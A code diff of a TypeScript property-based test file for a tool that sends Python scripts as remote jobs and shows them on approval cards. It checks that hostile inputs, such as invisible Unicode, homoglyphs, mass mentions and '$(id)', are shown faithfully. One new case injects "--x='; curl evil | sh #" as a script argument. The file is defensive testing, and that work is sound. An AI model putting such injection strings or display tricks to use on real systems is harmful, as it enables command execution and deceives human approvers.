@@ -9,6 +9,7 @@ import { wholeFile } from '../../src/session/what-runs.ts';
 import type { Outgoing } from '../../src/thread/delivery/outgoing.ts';
 import { approvalCard } from '../../src/thread/view/cards.ts';
 import { flat } from '../doubles/discord/components.ts';
+import { hostile } from '../support/hostile-requests.ts';
 import { type Args, SCRIPT_AT as AT, askedAndSent, jobsTool, type Sent } from '../support/jobs-tool.ts';
 import { type Seen, seenInFile, seenOnDiscord, seenOnSlack, shellWords } from '../support/read-back.ts';
 import { toolContext } from '../support/tool-context.ts';
@@ -100,7 +101,10 @@ function expectToBe(seen: Seen, { namespace, spec, schedule }: Sent, args: Args)
       /^echo (\S*) \| base64 -d \| (.*)$/s.exec(spec.command.at(-1) ?? '') ?? [];
     expect(seen.source).toBe(Buffer.from(encoded, 'base64').toString('utf8'));
     const packages = words('Dependencies');
-    expect(shellWords(run)).toEqual(['uv', 'run', ...packages.flatMap((name) => ['--with', name]), '-']);
+    const python = words('Python').flatMap((version) => ['--python', version]);
+    const uv = ['uv', 'run', ...python, ...packages.flatMap((name) => ['--with', name]), '-'];
+    expect(shellWords(run)).toEqual([...uv, ...words('Arguments')]);
+    expect(words('Arguments')).toEqual(args.script_args ?? []);
   }
 }
 
@@ -120,54 +124,6 @@ const durationOf = (text: string): number =>
 const UNSEEN =
   /(?:(?!\n|\t|\u{FE0F})[\p{Cc}\p{Cf}\p{Co}\p{Cn}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}])/u;
 
-const trick = fc.constantFrom(
-  '\u202e',
-  '\u2066',
-  '\u200b',
-  '\u200d',
-  '\ufeff',
-  '\u00ad',
-  '\u00a0',
-  '\u2028',
-  '\u2800',
-  '\ufe0f',
-  '\u{e0041}',
-  '\r',
-  '\r\n',
-  '\u0007',
-  '\u001b[2K',
-  'а',
-  'е',
-  'о',
-  'ｅ',
-  '‹U+202E›',
-  '```',
-  '@everyone',
-  '@channel',
-  '<!channel>',
-  '<@U0ADA>',
-  '&lt;',
-  "'",
-  '"',
-  '\\',
-  '$(id)',
-  '`id`',
-  '\n',
-  '\t',
-  '  ',
-  '*_~|',
-  '#',
-  'Environment: A=1',
-  '-'.repeat(60),
-  'x'.repeat(400),
-  `${'line\n'.repeat(60)}`,
-);
-const hostile = fc
-  .array(fc.oneof(trick, fc.string({ maxLength: 30, unit: 'grapheme' }), fc.string({ maxLength: 30 })), {
-    minLength: 1,
-    maxLength: 12,
-  })
-  .map((parts) => parts.join('').toWellFormed().replaceAll('\0', ''));
 const longOrNot = fc.oneof(
   { weight: 3, arbitrary: hostile },
   { weight: 1, arbitrary: hostile.map((text) => `${text}\n`.repeat(300).slice(0, 8_000).toWellFormed()) },
@@ -202,6 +158,14 @@ const scripted = fc.record(
     operation: fc.constant('run'),
     script: notANameOfOne,
     dependencies: fc.array(fc.stringMatching(/^[a-z][a-z0-9._=<>~! @:/+-]{0,40}$/), { maxLength: 48 }),
+    python: fc.constantFrom('3.11', '3.12.4'),
+    script_args: fc.array(
+      fc.oneof(
+        hostile.map((text) => text.slice(0, 1_000).toWellFormed()),
+        fc.constantFrom('', '--lr', '-', '2e-5'),
+      ),
+      { maxLength: 8 },
+    ),
     ...common,
   },
   { requiredKeys: [...optional.requiredKeys, 'script' as never] },
@@ -296,6 +260,10 @@ describe('known ways to show something else', () => {
     ],
     ['the value of a variable', { script: 'print(1)', env: { HF_ENDPOINT: 'https://elsewhere.example' } }],
     ['a word with a blank in it', { command: ['python', '-c', 'a b', ' '] }],
+    [
+      'an argument of a script that would end its line',
+      { script: 'print(1)', python: '3.11', script_args: ["--x='; curl evil | sh #", '', '$(id)\n`id`'] },
+    ],
   ])('%s is shown', async (_what, more) => {
     const args = { operation: 'run', hardware_flavor: 'a10g-small', ...more };
     const { request, sent } = await askedAndSent(args);
